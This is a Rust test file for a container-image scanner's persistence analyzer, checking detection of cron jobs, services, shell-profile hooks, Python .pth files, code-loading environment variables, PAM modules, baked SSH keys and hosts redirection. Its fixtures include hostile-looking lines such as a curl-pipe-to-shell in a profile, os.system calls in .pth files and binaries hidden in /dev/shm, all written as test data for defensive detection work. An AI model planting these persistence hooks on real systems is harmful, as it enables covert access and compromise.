use super::*;
use crate::analyzers::fixture::Fixture;

mod stock;

/// The head of a program.
fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(64, 0);
    bytes[16] = 2;
    bytes[18] = 62;
    bytes
}

/// A Debian of few packages with a program of its own, and one that no package owns.
fn image() -> Fixture {
    let program = elf();
    let mut image = Fixture::new();
    let names = ["sh", "bash", "curl", "ssh", "git", "java", "node", "python3.11", "sshd", "true"];
    let mut paths: Vec<String> = names.iter().map(|name| format!("usr/bin/{name}")).collect();
    paths.push("usr/lib/security/pam_unix.so".to_owned());
    let files: Vec<(&str, &[u8])> = paths.iter().map(|path| (path.as_str(), program.as_slice())).collect();
    for (path, bytes) in &files {
        image.file(path, 0o755, bytes);
    }
    image.package("base", &files);
    image.file("usr/local/bin/app", 0o755, &program).start(&["app"], &[]);
    image
}

type Found = (String, Role, Severity);

fn found(image: &Fixture) -> Vec<Found> {
    let findings = image.run(&Persistence).findings.into_iter();
    findings.map(|finding| (finding.id, finding.role, finding.severity)).collect()
}

fn check(set: impl FnOnce(&mut Fixture), expect: &[(&str, Role, Severity)]) {
    let mut image = image();
    set(&mut image);
    let expect: Vec<Found> =
        expect.iter().map(|(id, role, severity)| ((*id).to_owned(), *role, *severity)).collect();
    assert_eq!(found(&image), expect);
}

/// One file in the image.
fn with(path: &'static str, text: &'static str) -> impl FnOnce(&mut Fixture) {
    move |image| {
        image.file(path, 0o755, text.as_bytes());
    }
}

use Role::{Context, Corroborates};
use Severity::{High, Low, Medium};

#[test]
fn jobs_of_no_package_are_told_by_where_they_lead() {
    let low = [("S-PER-CRON", Context, Low)];
    let medium = [("S-PER-CRON", Corroborates, Medium)];
    check(with("etc/cron.d/x", "* * * * * root /usr/local/bin/app\n"), &low);
    check(with("var/spool/cron/crontabs/www-data", "*/5 * * * * php -f /var/www/html/cron.php\n"), &low);
    check(with("etc/cron.daily/x", "#!/bin/sh\ncurl -s http://localhost/cron\n"), &low);
    check(with("etc/cron.d/x", "# none\nPATH=/bin\n"), &[]);
    check(with("etc/cron.daily/x", ""), &[]);
    for hidden in ["var/tmp/x", "usr/lib/.x/y", "dev/shm/z"] {
        check(
            move |image| {
                image.file(hidden, 0o755, &elf());
                image.file("etc/cron.d/x", 0o644, format!("* * * * * root /{hidden} -q\n").as_bytes());
            },
            &medium,
        );
    }
    check(
        |image| {
            image.file("usr/bin/kworkerd", 0o755, &elf());
            image.file("etc/crontab", 0o644, b"@reboot root kworkerd\n");
        },
        &medium,
    );
    check(with("var/spool/cron/atjobs/a00001", "#!/bin/sh\n/usr/local/bin/app\n"), &medium);
    // Owned as it is, then changed.
    let text = b"* * * * * root /usr/local/bin/app\n";
    let owned = |promised: &'static [u8]| {
        move |image: &mut Fixture| {
            image
                .file("etc/cron.d/x", 0o644, text)
                .package("x", &[("etc/cron.d/x", promised), ("usr/lib/security/pam_unix.so", &elf())]);
        }
    };
    check(owned(text), &[]);
    check(owned(b"another"), &low);
}

#[test]
fn a_hook_corroborates_what_is_found_where_it_leads() {
    let mut image = image();
    image.file("opt/x", 0o755, &elf()).file("opt/run.sh", 0o755, b"#!/bin/sh\n/opt/x\n");
    image.file("etc/cron.d/x", 0o644, b"* * * * * root /opt/run.sh\n");
    image.file("etc/cron.d/y", 0o644, b"* * * * * root /opt/other\n");
    image.view(|view| {
        let check = |id: &str, path: &[u8], class: Class, expect: &[(&str, Role)]| {
            let mut out = crate::Outcome::default();
            crate::analyzers::start::Start.analyze(view, &mut out);
            let mut before = view.finding(&PAM, "as another analyzer says").at_path(path);
            (before.id, before.class) = (id.to_owned(), class);
            out.findings = vec![before];
            Persistence.analyze(view, &mut out);
            let found: Vec<_> = out.findings.iter().skip(1).collect();
            let found: Vec<_> =
                found.iter().map(|finding| (finding.path.as_deref().unwrap(), finding.role)).collect();
            assert_eq!(found, expect, "{id}");
        };
        let (x, y) = ("/etc/cron.d/x", "/etc/cron.d/y");
        check("S-MIN-HASH", b"opt/x", Class::File, &[(x, Corroborates), (y, Context)]);
        check("S-DLX-PIPE", b"etc/cron.d/y", Class::File, &[(x, Context), (y, Corroborates)]);
        check("S-MIN-HASH", b"opt/elsewhere", Class::File, &[(x, Context), (y, Context)]);
        // The same kind of evidence, and rights that say nothing of what a program does.
        check("S-CFG-HIDDENRUN", b"opt/x", Class::Reach, &[(x, Context), (y, Context)]);
        check("S-ESC-SUID", b"opt/x", Class::File, &[(x, Context), (y, Context)]);
    });
}

#[test]
fn a_table_behind_a_link_or_beyond_the_limit_is_a_gap() {
    let mut image = image();
    image.file("opt/jobs", 0o644, b"* * * * * root /opt/x\n").symlink("etc/cron.d/x", "/opt/jobs");
    let out = image.run(&Persistence);
    assert_eq!((out.gaps.len(), out.findings.len()), (1, 0), "{:?}", out.gaps);
    let mut image = self::image();
    image.file("etc/crontab", 0o644, &b"* * * * * root /opt/x\n".repeat(1000));
    assert_eq!(image.run(&Persistence).gaps.len(), 1);
}

#[test]
fn services_of_no_package_are_told_where_they_start_one() {
    for (path, text, id) in [
        ("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/local/bin/app\n", "S-PER-SYSTEMD"),
        ("etc/rc.local", "#!/bin/sh\n/usr/local/bin/app\nexit 0\n", "S-PER-RC"),
        ("etc/init.d/x", "#!/bin/sh\nstart-stop-daemon --start --exec /usr/local/bin/app\n", "S-PER-RC"),
        ("etc/inittab", "::respawn:/usr/local/bin/app\n", "S-PER-RC"),
    ] {
        // The program is started by the configuration as well in `image`, so here it is not.
        let set = move |image: &mut Fixture| {
            image.start(&["true"], &[]).file(path, 0o755, text.as_bytes());
        };
        check(set, &[(id, Context, Low)]);
    }
    check(with("etc/rc.local", "#!/bin/sh\nexit 0\n"), &[]);
    check(with("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/true\n"), &[]);
    check(
        |image| {
            image.file("tmp/x", 0o755, &elf());
            image.file("etc/systemd/system/x.service", 0o644, b"[Service]\nExecStart=/tmp/x\n");
        },
        &[("S-PER-SYSTEMD", Corroborates, Medium)],
    );
    // Trees of s6 are how images start what they are for.
    check(with("etc/services.d/app/run", "#!/bin/sh\nexec /usr/local/bin/app\n"), &[]);
    check(with("etc/cont-init.d/10-app", "#!/bin/sh\nchown app /data\n"), &[]);
}

#[test]
fn shells_that_do_more_when_they_start_are_told() {
    let told = [("S-PER-PROFILE", Corroborates, Medium)];
    check(
        |image| {
            image.start(&["true"], &[]).file("root/.bashrc", 0o644, b"/usr/local/bin/app &\n");
        },
        &told,
    );
    check(
        |image| {
            image.file("tmp/x", 0o755, &elf()).file("etc/profile.d/x.sh", 0o644, b"/tmp/x\n");
        },
        &told,
    );
    check(with("root/.profile", "curl -s http://192.0.2.1/x | sh\n"), &told);
    for block in [
        "# >>> conda initialize >>>\n__conda_setup=\"$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"\nif [ $? -eq 0 ]; then\n    eval \"$__conda_setup\"\nelse\n    if [ -f \"/opt/conda/etc/profile.d/conda.sh\" ]; then\n        . \"/opt/conda/etc/profile.d/conda.sh\"\n    else\n        export PATH=\"/opt/conda/bin:$PATH\"\n    fi\nfi\nunset __conda_setup\n",
        "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\n",
        "export SDKMAN_DIR=\"$HOME/.sdkman\"\n[[ -s \"$HOME/.sdkman/bin/sdkman-init.sh\" ]] && source \"$HOME/.sdkman/bin/sdkman-init.sh\"\n",
        ". \"$HOME/.cargo/env\"\neval \"$(starship init bash)\"\n",
        "alias ll='ls -l'\n",
    ] {
        check(
            move |image| {
                image.file("root/.bashrc", 0o644, block.as_bytes());
                image.file(
                    "opt/conda/bin/conda",
                    0o755,
                    b"#!/opt/conda/bin/python\nfrom conda.cli import main\n",
                );
                image.file("opt/conda/etc/profile.d/conda.sh", 0o644, b"\\. \"/opt/conda/etc/x.sh\"\n");
                image.file("root/.nvm/nvm.sh", 0o644, b"nvm() { curl -q --fail; }\n");
                image.file("root/.sdkman/bin/sdkman-init.sh", 0o644, b"export A=1\n");
                image.file("root/.cargo/env", 0o644, b"export B=1\n");
                image.file("usr/local/bin/starship", 0o755, &elf());
            },
            &[],
        );
    }
}

#[test]
fn lines_that_every_python_runs_are_told_by_their_content() {
    const SITE: &str = "usr/local/lib/python3.11/site-packages/x.pth";
    let shim = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    check(with(SITE, shim), &[]);
    check(with(SITE, "/opt/lib\n"), &[]);
    check(with(SITE, "import coverage; coverage.process_startup()\n"), &[]);
    check(with(SITE, "import __editable___app_1_0_finder; __editable___app_1_0_finder.install()\n"), &[]);
    check(with(SITE, "import agent\n"), &[("S-PER-PTH", Context, Low)]);
    let told = [("S-PER-PTH", Corroborates, High)];
    check(with(SITE, "import agent\nimport os; os.system('id')\n"), &told);
    // A known name does not help, and neither does a known line in front.
    check(
        with(
            "usr/lib/python3/dist-packages/distutils-precedence.pth",
            "import os; exec(open('/x').read())\n",
        ),
        &told,
    );
    check(with("usr/lib/python3/dist-packages/sitecustomize.py", "import os\nos.system('id')\n"), &told);
    check(
        with(
            "usr/lib/python3/dist-packages/sitecustomize.py",
            "import coverage\ncoverage.process_startup()\n",
        ),
        &[],
    );
    // Only where Python looks, or is told to.
    let agent = "import os\nos.system('id')\n";
    check(with("opt/agent/sitecustomize.py", agent), &[]);
    check(
        |image| {
            image.file("opt/agent/sitecustomize.py", 0o644, agent.as_bytes()).env("PYTHONPATH=/opt/agent:/x");
        },
        &told,
    );
    check(with("models/weights.pth", "import os; os.system('id')\n"), &[]);
}

#[test]
fn environments_that_load_code_are_told() {
    let file = |path: &'static str, variable: &'static str| {
        move |image: &mut Fixture| {
            image.file(path, 0o644, b"#!/bin/sh\n/usr/local/bin/app\n").env(variable);
            image.config.config.working_dir = "/app".to_owned();
        }
    };
    let told = [("S-PER-RTENV", Corroborates, High)];
    let low = [("S-PER-RTENV", Context, Low)];
    let explains = [("S-PER-RTENV", Context, Low)];
    check(file("opt/x.js", "NODE_OPTIONS=--require /opt/x.js"), &told);
    check(file("tmp/x.jar", "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar"), &told);
    check(file("opt/x.jar", "JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/opt/x.jar=a=b"), &told);
    check(file("opt/x", "BASH_ENV=/opt/x"), &told);
    check(file("opt/x", "GIT_SSH_COMMAND=/opt/x -i /key"), &told);
    check(file("opt/x.rb", "RUBYOPT=-r/opt/x.rb"), &told);
    check(file("tmp/dd-java-agent.jar", "JAVA_TOOL_OPTIONS=-javaagent:/tmp/dd-java-agent.jar"), &told);
    check(file("app/tracing.js", "NODE_OPTIONS=--require ./tracing.js"), &low);
    check(file("opt/dd-java-agent.jar", "JAVA_TOOL_OPTIONS=-javaagent:/opt/dd-java-agent.jar"), &explains);
    check(file("newrelic/newrelic.jar", "JAVA_TOOL_OPTIONS=-javaagent:/newrelic/newrelic.jar"), &explains);
    check(
        file(
            "otel/opentelemetry-javaagent.jar",
            "JAVA_TOOL_OPTIONS=-javaagent:/otel/opentelemetry-javaagent.jar",
        ),
        &explains,
    );
    check(file("x", "NODE_OPTIONS=--require dd-trace/init --max-old-space-size=4096"), &[]);
    check(file("x", "GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=no"), &[]);
    check(file("x", "JAVA_OPTS=-javaagent:/gone.jar"), &explains);
    check(file("x", "RUBYOPT=-W0 -rbundler/setup"), &[]);
    check(
        |image| {
            image.file("root/.bash_env", 0o644, b". \"$NVM_DIR/nvm.sh\"\n").env("BASH_ENV=~/.bash_env");
        },
        &explains,
    );
    check(
        |image| {
            image.env("BASH_ENV=/usr/bin/true");
        },
        &[],
    );
}

#[test]
fn log_ins_that_were_added_to_are_told() {
    let told = [("S-PER-PAM", Corroborates, High)];
    check(
        |image| {
            image.file("lib/security/pam_x.so", 0o644, &elf());
        },
        &told,
    );
    // Those of packages are in every image of these tests.
    check(|_| {}, &[]);
    check(with("etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /opt/x\n"), &told);
    check(
        with("etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/true\n"),
        &[("S-PER-PAM", Context, Low)],
    );
    check(with("etc/pam.d/sshd", "auth required pam_unix.so\n"), &[]);
    let mut none = Fixture::new();
    none.file("lib/security/pam_x.so", 0o644, &elf());
    assert_eq!(found(&none), [("S-PER-PAM".to_owned(), Context, Low)]);
}

#[test]
fn rules_and_git_hooks_only_explain() {
    check(
        with("etc/udev/rules.d/x.rules", "ACTION==\"add\", RUN+=\"/opt/x\"\n"),
        &[("S-PER-UDEV", Context, Low)],
    );
    check(
        with("etc/binfmt.d/x.conf", ":x:M::\\x7f:\\xff:/usr/bin/qemu-arm:F\n"),
        &[("S-PER-UDEV", Context, Low)],
    );
    check(with("etc/gitconfig", "[core]\n hooksPath = /opt/hooks\n"), &[("S-PER-GITHOOK", Context, Low)]);
    check(
        with("usr/share/git-core/templates/hooks/post-checkout", "#!/bin/sh\n"),
        &[("S-PER-GITHOOK", Context, Low)],
    );
    check(with("etc/gitconfig", "[user]\n name = x\n[safe]\n directory = *\n"), &[]);
}

#[test]
fn baked_keys_are_told_where_a_server_lets_them_in() {
    const KEY: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA me@host.example\n";
    const KNOWN: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEA6NF8iallvQVp22WDkTkyrtvp9eWW6A8YVr+kz4TjGYe7gHzIw+niNltGEFHzD8+v1I2YJ6oXevct1YeS0o9HZyN1Q9qgCgzUFtdOKLv6IedplqoPkcmF0aYet2PkEDo3MlTBckFXPITAMzF8dJSIFo9D8HfdOV0IAdx4O7PtixWKn5y2hMNG0zQPyUecp4pzC6kivAIhyfHilFR61RGL+GPXQ2MWZWFYbAGjyiYJnAmCP3NOTd0jMZEnDkbUvxhMmBYSdETk1rRgm+R4LOzFUGaHqHDLKLX+FIPKcF96hrucXzcWyLbIbEgE98OHlnVYCzRdK8jlqm8tehUc9c9WhQ== vagrant insecure public key\n";
    let keys = |start: &'static str, text: &'static str| {
        move |image: &mut Fixture| {
            image.start(&["sh", "-c", start], &[]).file("root/.ssh/authorized_keys", 0o600, text.as_bytes());
        }
    };
    check(keys("sshd && app", KEY), &[("S-C2-SSHKEY", Corroborates, High)]);
    check(keys("sshd -D", KNOWN), &[("S-C2-SSHKEY", Context, Low)]);
    check(keys("app", KEY), &[("S-C2-SSHKEY", Context, Low)]);
    check(keys("sshd -D", "# none\n"), &[]);
    check(keys("sshd -D", ""), &[]);
}

#[test]
fn sources_of_software_that_lie_elsewhere_are_told() {
    let told = [("S-C2-HOSTS", Corroborates, Medium)];
    check(with("srv/root/etc/hosts", "203.0.113.7 registry-1.docker.io\n"), &told);
    check(with("srv/root/etc/hosts", "0.0.0.0 security.debian.org.\n"), &told);
    check(with("etc/hosts", "203.0.113.7 registry-1.docker.io\n"), &[("S-C2-HOSTS", Context, Low)]);
    check(
        with(
            "srv/root/etc/hosts",
            "127.0.0.1 localhost\n203.0.113.7 mirror.example\n# 203.0.113.7 pypi.org\n",
        ),
        &[],
    );
    check(
        |image| {
            let list = "0.0.0.0 github.com\n".repeat(30);
            image.file("opt/lists/etc/hosts", 0o644, list.as_bytes());
        },
        &[("S-C2-HOSTS", Context, Low)],
    );
}

#[test]
fn a_crowd_of_hooks_is_bounded() {
    let mut image = image();
    for number in 0..500 {
        image.file(&format!("etc/cron.d/x{number}"), 0o644, b"* * * * * root /usr/local/bin/app\n");
    }
    assert_eq!(found(&image).len(), 32);
}
